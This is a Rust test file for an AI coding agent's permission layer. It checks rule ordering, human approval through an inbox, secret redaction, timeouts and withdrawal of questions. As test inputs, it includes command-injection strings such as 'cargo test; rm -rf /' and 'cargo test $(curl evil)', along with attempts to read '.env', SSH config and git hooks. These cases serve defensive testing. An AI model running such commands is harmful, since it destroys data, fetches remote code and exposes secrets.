use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use podium_config::{Layer, Live};
use podium_protocol::{InboxDecision, InboxItem, InboxScope, SessionStatus, WireError};
use podium_secrets::{KnownSecrets, Redactor};
use podium_sessions::permission::{Asker, DecidedBy, Decision, Permissions, Request, Undecided};
use podium_sessions::tools::{ToolCall, ToolContext};
use podium_sessions::{Inbox, SessionError, StopCause};
use podium_store::Store;
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use crate::script::Script;
use crate::{Bed, ask, bed, follow};

const REPO: &str = "repo-1";

/// A session's worktree, its permissions, and who asks.
struct Desk {
    bed: Bed,
    inbox: Inbox,
    ctx: ToolContext,
    asker: Asker,
    asked: Arc<Mutex<Vec<InboxItem>>>,
}

impl Desk {
    /// With a session that is over, and a repository that is known.
    async fn new(dir: &Path) -> Self {
        let bed = bed(dir, "a", Arc::new(Script::of("done")));
        let id = bed.sessions.start(ask("p")).await.unwrap().id;
        follow(&bed.sessions, &id).await;
        know_repo(&bed.store).await;
        Self::of(bed, dir, id)
    }

    fn of(bed: Bed, dir: &Path, session: String) -> Self {
        let root = dir.join("tree");
        std::fs::create_dir_all(root.join("src")).unwrap();
        std::fs::write(root.join("src/a.rs"), "old\n").unwrap();
        let asked = Arc::<Mutex<Vec<InboxItem>>>::default();
        let redactor = Arc::new(Redactor::default());
        let asker = Asker {
            session: session.clone(),
            agent_id: Some("claude-1".to_owned()),
            repo: Some(REPO.to_owned()),
            claimed: true,
            redactor: Arc::clone(&redactor),
            stop: CancellationToken::new(),
            waiting: Arc::new({
                let asked = Arc::clone(&asked);
                move |item| asked.lock().unwrap().push(item.clone())
            }),
        };
        let inbox = Inbox::new(bed.store.clone());
        Self { bed, inbox, ctx: ToolContext::new(root, session, redactor), asker, asked }
    }

    fn permissions(&self, rules: Value) -> Permissions {
        self.permissions_with(rules, &[])
    }

    fn permissions_with(&self, rules: Value, more: &[(&str, &str)]) -> Permissions {
        let mut env: BTreeMap<String, String> =
            more.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        env.insert("PODIUM_PERMISSION".to_owned(), rules.to_string());
        Permissions::new(self.bed.store.clone(), Arc::new(Live::load(vec![Layer::Env(env)]).unwrap()))
    }

    /// What is decided when nobody can be asked: `None` where somebody would have to be.
    async fn judged(&self, permissions: &Permissions, call: &ToolCall) -> Option<Decision> {
        let asker = Asker { stop: CancellationToken::new(), ..self.asker.clone() };
        asker.stop.cancel();
        match permissions.decide(call, 1, &self.ctx, &asker).await {
            Ok(decision) => Some(decision),
            Err(Undecided::Stopped) => None,
            Err(error) => panic!("{error}"),
        }
    }

    /// Decides in the background; the question is open when this returns.
    async fn asking(&self, permissions: &Permissions, call: ToolCall, seq: u64) -> (Asking, InboxItem) {
        let (permissions, ctx, asker) = (permissions.clone(), self.ctx.clone(), self.asker.clone());
        let before = self.asked.lock().unwrap().len();
        let task = tokio::spawn(async move { permissions.decide(&call, seq, &ctx, &asker).await });
        loop {
            if let Some(item) = self.asked.lock().unwrap().get(before) {
                return (task, item.clone());
            }
            assert!(!task.is_finished(), "nobody was asked");
            tokio::task::yield_now().await;
        }
    }

    async fn answer(&self, item: &InboxItem, decision: InboxDecision, scope: InboxScope) -> InboxItem {
        self.inbox.answer(item.id.clone(), decision, scope, "person:me@here".to_owned()).await.unwrap()
    }

    async fn events(&self, kind: &str) -> usize {
        self.bed.store.events(0, vec![kind.to_owned()], 100).await.unwrap().events.len()
    }
}

type Asking = tokio::task::JoinHandle<Result<Decision, Undecided>>;

async fn know_repo(store: &Store) {
    let write = store.write::<_, SessionError>(podium_store::Durability::Process, |tx| {
        let columns = "SELECT group_concat(name), count(*) FROM pragma_table_info('repos') WHERE \"notnull\" = 1 AND dflt_value IS NULL OR pk > 0";
        let (names, count): (String, usize) = tx.query_row(columns, [], |row| Ok((row.get(0)?, row.get(1)?)))?;
        let values: Vec<String> = names
            .split(',')
            .take(count)
            .map(|name| if name == "id" { format!("'{REPO}'") } else { "1".to_owned() })
            .collect();
        tx.execute(&format!("INSERT OR IGNORE INTO repos ({names}) VALUES ({})", values.join(",")), [])?;
        Ok(())
    });
    write.await.unwrap();
}

fn command(line: &str) -> ToolCall {
    call("run_command", json!({ "command": line }))
}

fn call(name: &str, input: Value) -> ToolCall {
    ToolCall { id: "call_0".to_owned(), name: name.to_owned(), input }
}

#[tokio::test]
async fn reading_is_free_changing_needs_a_claim_and_the_rest_a_person() {
    let dir = tempfile::tempdir().unwrap();
    let mut desk = Desk::new(dir.path()).await;
    let permissions = desk.permissions(json!([]));
    let edit = call("edit_file", json!({"path": "src/a.rs", "edits": [{"old": "old", "new": "new"}]}));
    for (call, claimed, expected) in [
        (call("read_file", json!({"path": "src/a.rs"})), false, Some(true)),
        (call("list_files", json!({})), false, Some(true)),
        (call("search", json!({"pattern": "x"})), false, Some(true)),
        (edit.clone(), true, Some(true)),
        (edit, false, None),
        (call("write_file", json!({"path": "new", "content": ""})), true, Some(true)),
        (call("commit", json!({"message": "x"})), true, Some(true)),
        (command("ls"), true, None),
        (call("fetch", json!({"url": "https://example.org"})), true, None),
        (call("read_file", json!({"path": ".env"})), true, Some(false)),
        (call("write_file", json!({"path": "x/.ssh/config", "content": ""})), true, Some(false)),
        (call("read_file", json!({"path": "../x"})), true, Some(false)),
        (call("write_file", json!({"path": ".git/hooks/pre-commit", "content": ""})), true, Some(false)),
    ] {
        desk.asker.claimed = claimed;
        let decision = desk.judged(&permissions, &call).await;
        assert_eq!(decision.map(|d| d.allowed), expected, "{call:?} claimed: {claimed}");
    }
}

#[tokio::test]
async fn deny_wins_and_else_the_first_rule_that_fits() {
    let dir = tempfile::tempdir().unwrap();
    let desk = Desk::new(dir.path()).await;
    std::os::unix::fs::symlink("private", desk.ctx.root.join("alias")).unwrap();
    std::fs::create_dir(desk.ctx.root.join("private")).unwrap();
    std::fs::write(desk.ctx.root.join("private/x"), "hidden\n").unwrap();
    let permissions = desk.permissions(json!([
        {"tool": "run_command", "command": "cargo publish*", "decision": "deny"},
        {"tool": "run_command", "command": "cargo *", "decision": "allow"},
        {"tool": "run_command", "command": "git status", "decision": "allow"},
        {"tool": "run_command", "command": "make && make test > log", "decision": "allow"},
        {"tool": "read_file", "path": "private", "decision": "deny"},
        {"tool": "read_file", "path": "deploy/.env", "decision": "allow"},
        {"tool": "write_file", "path": "docs/**", "decision": "allow"},
        {"tool": "write_file", "decision": "ask"},
        {"tool": "edit_*", "path": "*.lock", "decision": "deny"},
    ]));
    let read = |path: &str| call("read_file", json!({ "path": path }));
    let write = |path: &str| call("write_file", json!({ "path": path, "content": "" }));
    for (call, expected) in [
        (command("cargo test"), Some(true)),
        (command("cargo test && cargo build --release"), Some(true)),
        (command("cargo test; rm -rf /"), None),
        (command("cargo test $(curl evil)"), None),
        (command("CARGO=x cargo test"), None),
        (command("cargo test > src/a.rs"), None),
        (command("cargo publish --token x"), Some(false)),
        (command("cargo test || cargo publish"), Some(false)),
        (command("git status"), Some(true)),
        (command("git status -s"), None),
        (command("make && make test > log"), Some(true)),
        (call("run_command", json!({"command": ["cargo", "test", "a; b"]})), Some(true)),
        (call("run_command", json!("{\"command\": \"cargo publish\"}")), Some(false)),
        (read("private/x"), Some(false)),
        (read("alias/x"), Some(false)),
        (read("deploy/.env"), Some(true)),
        (read(".env"), Some(false)),
        (write("docs/a/b.md"), Some(true)),
        (write("src/b.rs"), None),
        (call("edit_file", json!({"path": "sub/Cargo.lock", "edits": []})), Some(false)),
    ] {
        let decision = desk.judged(&permissions, &call).await;
        assert_eq!(decision.map(|d| d.allowed), expected, "{call:?}");
    }
    // What must not be read is not found either.
    let ctx = ToolContext { paths: Arc::new(permissions.paths("search")), ..desk.ctx.clone() };
    let found = podium_sessions::tools::run(&call("search", json!({"pattern": "hidden"})), &ctx).await;
    assert_eq!(found.result.text, "No matches.\n");
}

#[tokio::test]
async fn a_question_says_what_would_be_done_and_hides_secrets() {
    let dir = tempfile::tempdir().unwrap();
    let mut desk = Desk::new(dir.path()).await;
    let mut known = KnownSecrets::new();
    known.add("TOKEN", "abcdefgh12345678");
    desk.asker.redactor = Arc::new(Redactor::new(&known));
    desk.asker.claimed = false;
    let permissions = desk.permissions(json!([]));
    let edit = call("edit_file", json!({"path": "src/a.rs", "edits": [{"old": "old", "new": "new"}]}));
    let (task, item) = desk.asking(&permissions, edit, 1).await;
    assert_eq!((item.question.as_str(), item.tool.as_deref()), ("edit src/a.rs", Some("edit_file")));
    assert_eq!(item.detail.as_deref(), Some("--- a/src/a.rs\n+++ b/src/a.rs\n@@ -1 +1 @@\n-old\n+new\n"));
    assert_eq!((item.paths.as_slice(), item.agent_id.as_str()), (&["src/a.rs".to_owned()][..], "claude-1"));
    assert_eq!(item.options, [InboxScope::Once, InboxScope::Session, InboxScope::Project]);
    assert!(item.deadline.is_some());
    desk.answer(&item, InboxDecision::Deny, InboxScope::Once).await;
    let decision = task.await.unwrap().unwrap();
    assert_eq!(decision.by, DecidedBy::Person("person:me@here".to_owned()));
    assert!(decision.refusal().contains("not permitted: edit src/a.rs"));
    let (text, data) = decision.item(&desk.asker.redactor);
    assert_eq!(text, "denied: edit src/a.rs (by person:me@here)");
    assert_eq!(
        (&data["decision"], &data["by"], &data["scope"]),
        (&json!("deny"), &json!("person"), &json!("once"))
    );
    let event = decision.event("s", &desk.asker.redactor).unwrap();
    assert_eq!((event.kind.as_ref(), &event.data["tool"]), ("permission.denied", &json!("edit_file")));
    let (task, item) = desk.asking(&permissions, command("deploy --token abcdefgh12345678"), 2).await;
    assert_eq!(item.question, "run `deploy --token [redacted:TOKEN]`");
    assert_eq!(item.detail.as_deref(), Some("deploy --token [redacted:TOKEN]"));
    desk.answer(&item, InboxDecision::Allow, InboxScope::Once).await;
    let decision = task.await.unwrap().unwrap();
    assert!(decision.allowed && decision.event("s", &desk.asker.redactor).is_none());
}

#[tokio::test]
async fn of_two_who_answer_at_one_time_one_decides_and_the_other_is_told() {
    let dir = tempfile::tempdir().unwrap();
    let desk = Desk::new(dir.path()).await;
    let permissions = desk.permissions(json!([]));
    for seq in 0..20 {
        let (task, item) = desk.asking(&permissions, command("make"), seq).await;
        let answer = |decision, by: &str| {
            let (inbox, id, by) = (desk.inbox.clone(), item.id.clone(), by.to_owned());
            tokio::spawn(async move { inbox.answer(id, decision, InboxScope::Once, by).await })
        };
        let (vscode, neovim) =
            (answer(InboxDecision::Allow, "vscode"), answer(InboxDecision::Deny, "neovim"));
        let answers = [vscode.await.unwrap(), neovim.await.unwrap()];
        let (won, lost): (Vec<_>, Vec<_>) = answers.into_iter().partition(Result::is_ok);
        let won = won.into_iter().next().unwrap().unwrap();
        let decision = task.await.unwrap().unwrap();
        assert_eq!(decision.by, DecidedBy::Person(won.answered_by.clone().unwrap()));
        assert_eq!(decision.allowed, won.decision == Some(InboxDecision::Allow));
        let told = WireError::from(lost.into_iter().next().unwrap().unwrap_err()).message;
        let expected = format!(
            "was answered already: {} by {}",
            won.decision.unwrap().as_str(),
            won.answered_by.unwrap()
        );
        assert!(told.ends_with(&expected), "{told}");
    }
    assert_eq!((desk.events("inbox.asked").await, desk.events("inbox.answered").await), (20, 20));
}

#[tokio::test]
async fn a_lasting_answer_holds_for_its_session_or_repository_until_it_is_taken_back() {
    let dir = tempfile::tempdir().unwrap();
    let mut desk = Desk::new(dir.path()).await;
    let permissions = desk.permissions(json!([]));
    let other = desk.bed.sessions.start(ask("q")).await.unwrap().id;
    follow(&desk.bed.sessions, &other).await;
    let first = desk.asker.session.clone();
    let (task, item) = desk.asking(&permissions, command("make test"), 1).await;
    desk.answer(&item, InboxDecision::Allow, InboxScope::Session).await;
    assert_eq!(task.await.unwrap().unwrap().scope, InboxScope::Session);
    let again = desk.judged(&permissions, &command("make test")).await.unwrap();
    assert_eq!((again.allowed, again.by), (true, DecidedBy::Remembered("person:me@here".to_owned())));
    assert_eq!(desk.judged(&permissions, &command("make test; rm x")).await, None);
    assert_eq!(desk.judged(&permissions, &command("make")).await, None);
    desk.asker.session.clone_from(&other);
    assert_eq!(desk.judged(&permissions, &command("make test")).await, None);
    let (task, item) = desk.asking(&permissions, command("make test"), 2).await;
    desk.answer(&item, InboxDecision::Deny, InboxScope::Project).await;
    task.await.unwrap().unwrap();
    // It denies in every session of the repository, also where an earlier answer allowed.
    for session in [&first, &other] {
        desk.asker.session.clone_from(session);
        assert!(!desk.judged(&permissions, &command("make test")).await.unwrap().allowed);
    }
    let grants = desk.inbox.grants().await.unwrap();
    let scopes: Vec<InboxScope> = grants.iter().map(|grant| grant.scope).collect();
    assert_eq!(scopes, [InboxScope::Project, InboxScope::Session]);
    desk.inbox.forget(grants[0].id.clone()).await.unwrap();
    assert!(matches!(desk.inbox.forget(grants[0].id.clone()).await, Err(SessionError::NoGrant(_))));
    desk.asker.session.clone_from(&first);
    assert!(desk.judged(&permissions, &command("make test")).await.unwrap().allowed);
    desk.asker.session = other;
    assert_eq!(desk.judged(&permissions, &command("make test")).await, None);
}

#[tokio::test]
async fn a_rule_that_denies_stands_above_a_lasting_answer() {
    let dir = tempfile::tempdir().unwrap();
    let desk = Desk::new(dir.path()).await;
    let (task, item) = desk.asking(&desk.permissions(json!([])), command("make"), 1).await;
    desk.answer(&item, InboxDecision::Allow, InboxScope::Session).await;
    task.await.unwrap().unwrap();
    let rules = desk.permissions(json!([{"tool": "run_command", "command": "make*", "decision": "deny"}]));
    assert!(!desk.judged(&rules, &command("make")).await.unwrap().allowed);
}

#[tokio::test]
async fn a_question_that_nobody_answers_is_denied_in_time() {
    let dir = tempfile::tempdir().unwrap();
    let desk = Desk::new(dir.path()).await;
    let short = [("PODIUM_SESSIONS_PERMISSION_TIMEOUT_SECONDS", "1")];
    let permissions = desk.permissions_with(json!([]), &short);
    let decision = permissions.decide(&command("make"), 1, &desk.ctx, &desk.asker).await.unwrap();
    assert_eq!((decision.allowed, &decision.by), (false, &DecidedBy::Timeout));
    let late = desk
        .inbox
        .answer(decision.question.unwrap(), InboxDecision::Allow, InboxScope::Once, "p".into())
        .await;
    assert!(matches!(late, Err(SessionError::Answered { .. })));
    let lenient = [short[0], ("PODIUM_SESSIONS_PERMISSION_TIMEOUT", "allow")];
    let permissions = desk.permissions_with(json!([]), &lenient);
    assert!(permissions.decide(&command("make"), 2, &desk.ctx, &desk.asker).await.unwrap().allowed);
}

#[tokio::test]
async fn a_turn_that_goes_on_finds_its_question_and_asks_only_once() {
    let dir = tempfile::tempdir().unwrap();
    let desk = Desk::new(dir.path()).await;
    let permissions = desk.permissions(json!([]));
    assert_eq!(desk.judged(&permissions, &command("make")).await, None);
    let open = desk.inbox.list(false).await.unwrap();
    let (task, item) = desk.asking(&permissions, command("make"), 1).await;
    assert_eq!(item.id, open[0].id);
    desk.answer(&item, InboxDecision::Allow, InboxScope::Once).await;
    assert!(task.await.unwrap().unwrap().allowed);
    let after = permissions.decide(&command("make"), 1, &desk.ctx, &desk.asker).await.unwrap();
    assert_eq!((after.allowed, after.question), (true, Some(item.id)));
    assert_eq!(desk.events("inbox.asked").await, 1);
    // Some providers begin to count their calls anew with each turn: that is another question.
    let (_task, next) = desk.asking(&permissions, command("make"), 9).await;
    assert!(next.is_open());
}

#[tokio::test]
async fn the_questions_of_a_cancelled_session_are_withdrawn() {
    let dir = tempfile::tempdir().unwrap();
    let bed = bed(dir.path(), "a", Arc::new(Script::holding_at("one two", 1)));
    let id = bed.sessions.start(ask("p")).await.unwrap().id;
    let desk = Desk::of(bed, dir.path(), id.clone());
    let permissions = desk.permissions(json!([]));
    let (task, item) = desk.asking(&permissions, command("make"), 1).await;
    let spoken = desk.inbox.ask("claude-1".into(), Some(id.clone()), "May I?".into()).await.unwrap();
    let elsewhere = desk.inbox.ask("claude-1".into(), None, "May I?".into()).await.unwrap();
    desk.bed.sessions.interrupt_all(StopCause::DaemonStopped).await;
    assert_eq!(desk.inbox.list(false).await.unwrap().len(), 3, "an interruption leaves them");
    assert_eq!(desk.bed.sessions.cancel(&id).await.unwrap().1, SessionStatus::Cancelled);
    assert!(matches!(task.await.unwrap(), Err(Undecided::Stopped)));
    assert_eq!(desk.inbox.list(false).await.unwrap(), [elsewhere]);
    for id in [item.id, spoken.id] {
        let late = desk.inbox.answer(id, InboxDecision::Allow, InboxScope::Once, "p".into()).await;
        assert!(matches!(late, Err(SessionError::Withdrawn { .. })));
    }
    assert_eq!(desk.events("inbox.withdrawn").await, 2);
}

#[tokio::test]
async fn an_agent_with_tools_of_its_own_is_judged_by_what_it_is_about_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let desk = Desk::new(dir.path()).await;
    let permissions = desk.permissions(json!([{"tool": "network", "decision": "deny"}]));
    let request = Request {
        key: "5/x".into(),
        tool: "network".into(),
        summary: "fetch example.org".into(),
        ..Request::default()
    };
    assert!(!permissions.decide_request(&request, &desk.asker).await.unwrap().allowed);
    let spoken = desk.inbox.ask("a".into(), None, "q".into()).await.unwrap();
    let wide = desk.inbox.answer(spoken.id, InboxDecision::Allow, InboxScope::Session, "p".into()).await;
    assert!(matches!(wide, Err(SessionError::Invalid(_))), "a plain question is answered for itself only");
}

/// Runs in a process of its own, which is killed as it waits. Called as a test it has nothing to do.
#[tokio::test]
async fn asks_and_waits() {
    let Ok(dir) = std::env::var("PODIUM_TEST_ASKS_IN") else { return };
    let mut desk = Desk::new(Path::new(&dir)).await;
    let session = desk.asker.session.clone();
    // The other process waits for it.
    let tell = move |item: &InboxItem| println!("asked {} {session}", item.id);
    desk.asker.waiting = Arc::new(tell);
    let permissions = desk.permissions(json!([]));
    permissions.decide(&command("make"), 1, &desk.ctx, &desk.asker).await.unwrap();
}

#[tokio::test]
async fn a_question_outlives_the_kill_of_the_process_that_asked() {
    let dir = tempfile::tempdir().unwrap();
    let mut child = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "permission::asks_and_waits", "--nocapture"])
        .env("PODIUM_TEST_ASKS_IN", dir.path())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let lines = BufReader::new(child.stdout.take().unwrap()).lines().map_while(Result::ok);
    let told =
        lines.filter_map(|line| line.split_once("asked ").map(|(_, ids)| ids.to_owned())).next().unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    let (question, session) = told.split_once(' ').unwrap();
    let bed = bed(dir.path(), "b", Arc::new(Script::of("done")));
    let desk = Desk::of(bed, dir.path(), session.to_owned());
    let open = desk.inbox.list(false).await.unwrap();
    assert_eq!(open.iter().map(|item| item.id.as_str()).collect::<Vec<_>>(), [question]);
    desk.answer(&open[0], InboxDecision::Allow, InboxScope::Once).await;
    let permissions = desk.permissions(json!([]));
    let decision = permissions.decide(&command("make"), 1, &desk.ctx, &desk.asker).await.unwrap();
    assert_eq!((decision.allowed, decision.question.as_deref()), (true, Some(question)));
    assert_eq!((desk.events("inbox.asked").await, desk.events("inbox.answered").await), (1, 1));
}
